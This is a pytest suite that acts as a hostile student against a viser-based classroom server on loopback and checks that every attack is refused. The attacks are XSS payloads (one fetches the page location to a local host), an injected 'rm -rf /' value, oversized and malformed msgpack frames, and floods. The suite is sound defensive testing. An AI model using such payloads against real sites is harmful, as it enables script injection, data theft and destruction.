"""A hostile student on the class URL, speaking viser's protocol (loopback only).

Each test is one attack on a classroom (presenter mode on 127.0.0.1) made the way a
student with a websocket client would: markup in a scene's name, a value no widget
offers, viser's share tunnel, form-dirty messages of a megabyte, frames of 50 MB, an
upload that declares 60 MB, a thousand copy/follow clicks. The server must refuse each
one and go on serving the presenter; the same action from the page as a student uses
it must still work, so that every refusal can fail. How long the presenter waits meanwhile
is measured by ``tests/benchmarks/bench_hostile.py``, never asserted here.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
import viser
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from app import start_app
from app.classroom import PRESENTER_PATH
from app.guard.door import MAX_MESSAGE_BYTES, STUCK_BYTES, UPLOAD_PART_BYTES
from app.session.files import MAX_UPLOAD_BYTES
from tests.app.app_helpers import classroom_client as seat
from tests.app.app_helpers import has_label, reset_classroom, wait_until
from tests.viser_client import ViserClient

PAYLOADS = (
    "<iframe srcdoc=\"<script>parent.fetch('http://127.0.0.1:9/?'+parent.location)</script>\">",
    "<img src=x onerror=\"fetch('http://127.0.0.1:9/?'+location.href)\">",
    "<script>alert(1)</script>",
    "[click me](javascript:alert(1)) ![beacon](http://127.0.0.1:9/b.png)",
)
"""What a student puts where the app shows text."""

MARKUP = re.compile(r"<iframe|<img|<script|(?<!\\)\]\(|!\[", re.IGNORECASE)
"""What none of those may become in a panel (case-insensitive)."""


@pytest.fixture(scope="module")
def classroom_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    folder = tmp_path_factory.mktemp("scenes")
    app = start_app(
        "01_two_convex", port=0, print_url=False, presenter=True, scenes_dir=folder
    )
    yield app
    app.stop()


@pytest.fixture
def planner(classroom_app: Any) -> Iterator[Any]:
    """The module's classroom, back on its first scene, closed to students."""
    app = classroom_app
    yield app
    reset_classroom(app)


def upload(c: ViserClient, name: str, data: bytes, declared: int | None = None) -> str:
    """Upload through the panel's scenario button."""
    return c.upload(
        "Upload a scenario (.json) or map (.zip)",
        name,
        data,
        declared,
        UPLOAD_PART_BYTES,
    )


def hostile_scene(name: str, description: str = "") -> bytes:
    scene = json.loads(
        (viser_root() / "01_two_convex.json").read_text(encoding="utf-8")
    )
    scene["name"], scene["description"] = name, description
    return json.dumps(scene).encode()


def viser_root() -> Any:
    from app.server import SCENARIO_DIR

    return SCENARIO_DIR


def markup_in(texts: list[str]) -> list[str]:
    """The panel texts that hold live markup a student wrote."""
    return [t for t in texts if MARKUP.search(t)]


# --------------------------------------------------------------------------- 1. markup


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_scene_named_with_markup_reaches_every_panel_as_text(planner, payload):
    """Attack 1: with everyone editing, a student uploads a scene named with markup."""
    planner.classroom.set_open(True)
    with seat(planner, presenter=True) as pres, seat(planner) as student:
        upload(student, "lesson.json", hostile_scene(payload, payload + "\nline 2"))
        assert wait_until(lambda: planner.controller.scene.name == payload, 20)
        assert planner.wait_idle(30)
        word = re.findall(r"[a-z]+", payload)[0]  # iframe, img, script, click
        assert pres.wait_for(
            lambda: any(
                f"### &lt;{word}" in h or f"### \\[{word}" in h for h in pres.html()
            ),
            20,
        )
        assert markup_in(pres.html()) == []
        assert markup_in(student.html()) == []


def test_an_upload_named_with_markup_and_a_bad_field_is_told_as_text(planner):
    """The file's name and a field of it are quoted by the error in the panel."""
    planner.classroom.set_open(True)
    bad = json.dumps({"<img src=x onerror=alert(1)>": 1, "obstacles": "<script>"})
    with seat(planner, presenter=True) as pres, seat(planner) as student:
        upload(student, PAYLOADS[1] + ".json", bad.encode())
        assert pres.wait_for(lambda: any("Not loaded" in h for h in pres.html()), 20)
        assert markup_in(pres.html()) == []


def test_a_crafted_scene_file_the_lecturer_opens_is_shown_as_text(planner):
    """Attack 1, third way: a scene file downloaded from a student, opened by the lecturer."""
    with seat(planner, presenter=True) as pres:
        planner.controller.files.load_text(hostile_scene(PAYLOADS[0]), PAYLOADS[2])
        assert planner.wait_idle(30)
        assert pres.wait_for(lambda: any("Loaded" in h for h in pres.html()), 20)
        assert markup_in(pres.html()) == []


def test_a_dropdown_value_that_is_no_option_is_refused_before_the_app(planner, capfd):
    """Attack 1, second way: one GUI message sets the scenario dropdown to markup.

    The door drops it (viser itself would take any value), so nothing reaches the
    panel and no callback raises: no traceback in the log either.
    """
    door = planner.door

    def refused() -> int:
        # The student's widgets are disabled (refused as such), the presenter's are not
        # (refused for the value).
        return door.refused["value"] + door.refused["widget"]

    with seat(planner, presenter=True) as pres, seat(planner) as student:
        before, values = refused(), door.refused["value"]
        for c in (student, pres):
            c.set_gui(c.uuid("Scenario", "Dropdown"), PAYLOADS[0])
            c.set_gui(c.uuid("Mouse"), "<b>teleport</b>")
            c.set_gui(c.uuid("Edits"), "Undo; rm -rf /")
        assert wait_until(lambda: refused() >= before + 6, 10), door.refused
        assert door.refused["value"] >= values + 3, door.refused
        # The presenter's real choice still goes through.
        pres.set_gui(pres.uuid("Scenario", "Dropdown"), "02_three_obstacles")
        assert wait_until(
            lambda: planner.controller.frame.scenario == "02_three_obstacles", 20
        )
        assert markup_in(pres.html()) == []
    assert "KeyError" not in capfd.readouterr().err


@pytest.mark.parametrize(
    ("label", "value"),
    [
        ("Radius [m]", 1e9),
        ("Radius [m]", float("nan")),
        ("Radius [m]", "0.5"),
        ("Radius [m]", True),
        ("Wheel r [m]", -1.0),
        ("Sensor R [m]", float("inf")),
        ("Save as", "x" * 10_000),
        ("Download this scene (.json)", False),
    ],
)
def test_a_value_the_widget_does_not_offer_is_refused(planner, label, value):
    door = planner.door
    with seat(planner, presenter=True) as pres:
        before = sum(door.refused.values())
        pres.set_gui(pres.uuid(label), value)
        assert wait_until(lambda: sum(door.refused.values()) == before + 1, 10)


def test_only_a_value_is_set_never_another_property(planner):
    """viser would set any property a message names (``disabled`` of a locked widget)."""
    door = planner.door
    with seat(planner) as student:
        radius = student.uuid("Radius [m]")
        assert student.element("Radius [m]")["props"]["disabled"]
        before = door.refused["value"]
        student.send(
            {
                "type": "GuiUpdateMessage",
                "uuid": radius,
                "updates": {"disabled": False, "value": 0.5},
            }
        )
        assert wait_until(lambda: door.refused["value"] == before + 1, 10)
        # A watcher's panel is the class's one (app.classroom.watch): still disabled.
        assert planner.classroom.watch.panels.radius._impl.uuid == radius
        assert planner.classroom.watch.panels.radius.disabled


# --------------------------------------------------------------------------- 2. tunnel


def test_no_browser_opens_vipers_share_tunnel(planner, monkeypatch):
    """Attack 2: ShareUrlRequest from a watcher (and the presenter) is dropped unread."""
    calls: list[str] = []
    server = planner.server
    monkeypatch.setattr(server, "request_share_url", lambda *a, **k: calls.append("r"))
    monkeypatch.setattr(
        server, "disconnect_share_url", lambda *a, **k: calls.append("d")
    )
    door = planner.door
    with seat(planner, presenter=True) as pres, seat(planner) as student:
        before = door.refused["type"]
        for c in (student, pres):
            for _ in range(20):
                c.send({"type": "ShareUrlRequest"})
                c.send({"type": "ShareUrlDisconnect"})
        assert wait_until(lambda: door.refused["type"] >= before + 80, 10)
        time.sleep(0.3)
        assert calls == []
        assert not any(e["type"] == "ShareUrlUpdated" for e in pres.gui.values())


# --------------------------------------------------------------------------- 3. freeze


def test_a_thousand_copy_and_follow_clicks_make_a_few_copies(planner):
    """Attack 3: copy/follow pairs as fast as a socket sends them.

    A seat switches at most as often as its bucket allows; the presenter's edits go
    through meanwhile (its latency: bench_hostile.py).
    """
    room = planner.classroom
    made: list[int] = []
    original = room.make_copy

    def counting(client_id: int) -> bool:
        done = original(client_id)
        made.append(int(done))
        return done

    room.make_copy = counting  # type: ignore[method-assign]
    try:
        with seat(planner, presenter=True) as pres, seat(planner) as student:
            follow = "Follow the presenter again"
            assert student.wait_for(lambda: has_label(student, follow))
            copy, back = student.uuid("Make my own copy"), student.uuid(follow)
            start = time.monotonic()
            for _ in range(500):
                student.set_gui(copy, True)
                student.set_gui(back, True)
            # The presenter drags its goal while the student hammers.
            goal = "/own/handles/goal"
            owner = str(pres.client_id)
            pres.drag(goal, (2.0, 5.0), "start", owner)
            pres.drag(goal, (2.0, 5.0), "update", owner)
            pres.drag(goal, (2.0, 5.0), "end", owner)
            assert wait_until(lambda: planner.controller.scene.goal == (2.0, 5.0), 30)
            assert wait_until(lambda: planner.fair.waiting() == 0, 60)
            elapsed = time.monotonic() - start
        assert sum(made) <= 4 + 0.5 * elapsed + 1
        assert planner.door.refused["rate"] > 0 or planner.fair.dropped > 0
    finally:
        room.make_copy = original  # type: ignore[method-assign]


def test_one_seat_runs_one_callback_at_a_time_and_the_presenter_goes_first(planner):
    fair = planner.fair
    with seat(planner) as student:
        assert not planner.door.is_priority(student.client_id)
    with seat(planner, presenter=True) as pres:
        assert planner.door.is_priority(pres.client_id)
    assert fair.threads() <= 16


# --------------------------------------------------------------------------- 4. bloat


def test_form_dirty_messages_are_never_relayed_or_kept(planner):
    """Attack 4: a watcher's GuiFormDirtyMessage of 1 MB, a hundred times."""
    door = planner.door
    buffer = planner.server._websock_server._broadcast_buffer
    with seat(planner, presenter=True) as pres, seat(planner) as student:
        kept = len(buffer.message_from_id)
        before = door.refused["type"]
        for k in range(100):
            student.send(
                {
                    "type": "GuiFormDirtyMessage",
                    "uuid": f"{k:03d}" + "x" * 999_997,
                    "excluded_self_client": None,
                }
            )
        assert wait_until(lambda: door.refused["type"] >= before + 100, 30)
        time.sleep(0.3)
        assert not any(e["type"] == "GuiFormDirtyMessage" for e in pres.gui.values())
        assert len(buffer.message_from_id) <= kept + 50  # the presenter's own frames


def test_a_frame_over_the_limit_closes_only_its_sender(planner):
    """Attack 4: frames of 50 MB; the sender is closed before the frame is buffered."""
    with seat(planner, presenter=True) as pres:
        ws = connect(
            f"ws://127.0.0.1:{planner.port}/",
            subprotocols=[f"viser-v{viser.__version__}"],  # type: ignore[list-item]
            max_size=None,
        )
        big = msgspec.msgpack.encode(
            {"type": "GuiFormDirtyMessage", "uuid": "x" * (MAX_MESSAGE_BYTES + 10)}
        )
        with pytest.raises(ConnectionClosed):
            ws.send(big)
            # What the server sent before it read the frame, then the close (a quiet
            # server raises TimeoutError here: the test fails).
            for _ in range(10_000):
                ws.recv(timeout=5)
        ws.close()
        # The presenter is still served.
        pres.set_gui(pres.uuid("Radius [m]"), 0.4)
        assert wait_until(lambda: planner.controller.scene.robot.radius == 0.4, 20)


def test_an_upload_declaring_too_much_is_refused_before_a_byte_is_kept(planner):
    planner.classroom.set_open(True)
    door = planner.door
    with seat(planner, presenter=True), seat(planner) as student:
        client = planner.server.get_clients()[student.client_id]
        states = client.gui._current_file_upload_states
        before = door.refused["upload"]
        upload(student, "huge.json", b"x" * 1024, declared=60_000_000)
        assert wait_until(lambda: door.refused["upload"] >= before + 1, 10)
        assert states == {}
        # It is told so, in words.
        assert student.wait_for(
            lambda: any("Not uploaded" in str(e) for e in student.notes), 10
        )
        # A lie in the other direction: more bytes than declared.
        transfer = upload(student, "lie.json", b"x" * 100, declared=10)
        assert wait_until(lambda: door.refused["upload"] >= before + 2, 10)
        assert wait_until(lambda: transfer not in states, 10)  # the door's watchdog
        # A real upload within the limit still loads.
        upload(student, "ok.json", hostile_scene("A fair scene"))
        assert wait_until(lambda: planner.controller.scene.name == "A fair scene", 20)
    assert MAX_UPLOAD_BYTES < 60_000_000


def test_what_a_seat_left_behind_is_freed_when_it_leaves(planner):
    door, fair = planner.door, planner.fair
    guests = door.guests()
    with seat(planner) as student:
        student.click("Make my own copy")
        copy = student.uuid("Make my own copy")
        for _ in range(199):  # hammered, shown or not (the copy may hide it at once)
            student.set_gui(copy, True)
        assert wait_until(lambda: planner.classroom.counts()["private"] == 1, 30)
        assert door.guests() == guests + 1
    assert wait_until(lambda: door.guests() == guests, 20)
    assert wait_until(lambda: fair.waiting() == 0, 60)


# --------------------------------------------------------------------------- the rest


def test_a_new_presenter_link_signs_out_every_other_presenter(planner):
    room = planner.classroom
    old = room.token
    with (
        seat(planner, presenter=True) as laptop,
        seat(planner, presenter=True) as thief,
    ):
        laptop.set_gui(laptop.uuid("New presenter link"), True)
        assert wait_until(lambda: room.token != old, 10)
        assert thief.wait_for(lambda: thief.closed, 20)
        assert room.mode(laptop.client_id) == "presenter"
        # The thief's old link now opens a watcher's seat; the new one a presenter's.
        with seat(planner) as again:
            assert room.mode(again.client_id) == "watching"
        stale = ViserClient(planner.port, f"{PRESENTER_PATH}{old}")
        try:
            assert wait_until(
                lambda: any(
                    room.mode(cid) == "watching"
                    for cid in planner.server.get_clients()
                    if cid not in (laptop.client_id,)
                ),
                20,
            )
        finally:
            stale.close()
        with seat(planner, presenter=True) as fresh:
            assert room.mode(fresh.client_id) == "presenter"
    # A watcher cannot ask for one.
    with seat(planner) as student:
        token = room.token
        assert room.rotate_token(student.client_id) is None and room.token == token


def test_banners_count_the_class_after_many_leave_together(planner):
    with seat(planner, presenter=True) as pres:
        students = [ViserClient(planner.port, "") for _ in range(8)]
        assert wait_until(lambda: planner.classroom.counts()["watching"] == 8, 30)
        for s in students:
            s.close()
        assert wait_until(lambda: planner.classroom.counts()["watching"] == 0, 30)

        def banner() -> str:
            return next((h for h in pres.html() if "Presenter</div>" in h), "")

        assert pres.wait_for(lambda: "0 following" in banner(), 20), banner()


# --------------------------------------------------------------------------- the watchdog


def test_a_connection_that_never_becomes_a_browser_is_closed(planner):
    """Sockets opened and left silent (no camera message) do not stay for ever."""
    door = planner.door
    door.silent_seconds = 1.0
    try:
        before = door.closed["silent"]
        sockets = [
            connect(
                f"ws://127.0.0.1:{planner.port}/",
                subprotocols=[f"viser-v{viser.__version__}"],  # type: ignore[list-item]
            )
            for _ in range(5)
        ]
        assert wait_until(lambda: door.closed["silent"] >= before + 5, 20)
        for ws in sockets:
            with pytest.raises(ConnectionClosed):
                while True:
                    ws.recv(timeout=10)
    finally:
        door.silent_seconds = 20.0


class _Socket:
    """A connection whose transport holds ``waiting`` bytes not yet sent."""

    def __init__(self, waiting: int) -> None:
        self.transport = self
        self.waiting = waiting

    def get_write_buffer_size(self) -> int:
        return self.waiting


def test_a_browser_that_does_not_read_is_closed_after_a_while(planner):
    """What the server queues for a browser that never reads would grow without bound."""
    door = planner.door
    with seat(planner) as student:
        cid = student.client_id
        socket = _Socket(STUCK_BYTES)
        assert door._overdue(cid, socket, 0.0) is None  # stuck from now on
        assert door._overdue(cid, socket, door.stuck_seconds - 1) is None
        assert door._overdue(cid, socket, door.stuck_seconds + 1) == "stuck"
        socket.waiting = 0  # it read: the clock starts again
        assert door._overdue(cid, socket, door.stuck_seconds + 2) is None
        socket.waiting = STUCK_BYTES
        assert door._overdue(cid, socket, door.stuck_seconds + 3) is None


def test_a_message_of_the_wrong_shape_is_refused_as_it_is_read(planner):
    """A part whose content is a million nested arrays is not built into objects: the
    typed reading refuses it as malformed at its first array (read whole, it would be
    refused later, as a part of no upload, after a second of the event loop's time)."""
    door = planner.door
    with seat(planner, presenter=True) as pres:
        before = door.refused["malformed"]
        count = (1 << 20) - 64
        frame = (
            b"\x83"
            + msgspec.msgpack.encode("type")
            + msgspec.msgpack.encode("FileTransferPart")
            + msgspec.msgpack.encode("transfer_uuid")
            + msgspec.msgpack.encode("t")
            + msgspec.msgpack.encode("content")
            + b"\xdd"
            + count.to_bytes(4, "big")
            + b"\x90" * count
        )[:MAX_MESSAGE_BYTES]
        for _ in range(5):
            pres.send_raw(frame)
        assert wait_until(lambda: door.refused["malformed"] >= before + 5, 20)
        # The presenter is still served at once.
        pres.set_gui(pres.uuid("Radius [m]"), 0.45)
        assert wait_until(lambda: planner.controller.scene.robot.radius == 0.45, 20)


def test_a_new_presenter_link_closes_connections_still_opening_with_the_old_one(
    planner,
):
    room = planner.classroom
    with seat(planner, presenter=True) as laptop:
        old = room.token
        ws = connect(
            f"ws://127.0.0.1:{planner.port}{PRESENTER_PATH}{old}",
            subprotocols=[f"viser-v{viser.__version__}"],  # type: ignore[list-item]
        )
        assert wait_until(
            lambda: len(planner.server._websock_server._live_connections) >= 2, 10
        )
        assert room.rotate_token(laptop.client_id) is not None
        with pytest.raises(ConnectionClosed):
            while True:
                ws.recv(timeout=10)


def test_a_browser_that_left_has_no_priority(planner):
    door = planner.door
    with seat(planner, presenter=True) as pres:
        cid = pres.client_id
        assert door.is_priority(cid)
    assert wait_until(lambda: not door.knows(cid), 20)
    assert not door.is_priority(cid) and door.is_priority(None)


# --------------------------------------------------------------------------- huge numbers

FAR = {
    "format": 1,
    "obstacles": [[[1e20, 0], [1e20 + 1e5, 0], [1e20, 1e5]]],
    "start": [0, 0],
    "goal": [1, 1],
}
"""A scene whose floor reaches 1e20 m: a whole metre of that is an int too big for
msgpack, and a message carrying one killed viser's sender to every browser."""


def test_a_scene_far_away_leaves_every_browser_connected(planner):
    planner.classroom.set_open(True)
    with seat(planner, presenter=True) as lecturer, seat(planner) as student:
        upload(student, "far.json", json.dumps(FAR).encode())
        assert wait_until(
            lambda: planner.controller.frame.scene.obstacles[0].bounds[0] == 1e20, 30
        )
        assert planner.wait_idle(60)
        with seat(planner) as newcomer:  # its panel and scene arrive
            assert has_label(newcomer, "Radius [m]")
            assert not (lecturer.closed or student.closed or newcomer.closed)


def test_a_seat_gets_two_downloads_then_one_every_ten_seconds(planner):
    # Each click makes the server build a file (a motion of 20,000 samples is a few MB):
    # a student clicking away gets two, the rest are dropped at the door.
    with seat(planner) as student:
        assert student.wait_for(
            lambda: has_label(student, "Download the motion .csv"), 30
        )
        before = planner.door.refused["rate"]
        for _ in range(10):
            student.set_gui(student.uuid("Download the motion .csv"), True)
        assert wait_until(lambda: planner.door.refused["rate"] - before == 8, 30)
        assert student.wait_for(
            lambda: student.kinds["FileTransferStartDownload"] == 2, 30
        )
        assert planner.wait_idle(30)
    with seat(planner, presenter=True) as lecturer:  # the presenter is never limited
        for _ in range(5):
            lecturer.set_gui(lecturer.uuid("Download the motion .csv"), True)
        assert lecturer.wait_for(
            lambda: lecturer.kinds["FileTransferStartDownload"] == 5, 30
        )
        assert planner.door.refused["rate"] - before == 8
